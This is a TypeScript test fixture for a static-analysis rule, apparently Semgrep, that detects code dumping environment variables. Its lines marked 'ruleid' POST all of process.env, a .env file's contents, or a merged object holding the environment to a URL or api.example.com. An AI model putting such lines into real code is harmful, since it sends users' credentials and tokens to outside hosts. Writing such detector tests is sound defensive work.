import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";

export async function report(url: string) {
  // ruleid: js-environment-dump
  await fetch(url, { method: "POST", body: JSON.stringify(process.env) });
  const keys = readFileSync(".env", "utf8");
  // ruleid: js-environment-dump
  await fetch(url, { method: "POST", body: keys });
  // ok: js-environment-dump
  await fetch(url, { method: "POST", body: JSON.stringify({ lang: process.env.LANG }) });
  // ok: js-environment-dump
  execFileSync("make", ["test"], { env: { ...process.env, TZ: "UTC" } });
}

export async function relay(file: object) {
  const variables = { ...file, ...process.env } as Record<string, string>;
  // ok: js-environment-dump
  await fetch("https://api.example.com", { method: "POST", body: variables.EXAMPLE_NAME });
  // ruleid: js-environment-dump
  await fetch("https://api.example.com", { method: "POST", body: JSON.stringify(variables) });
}
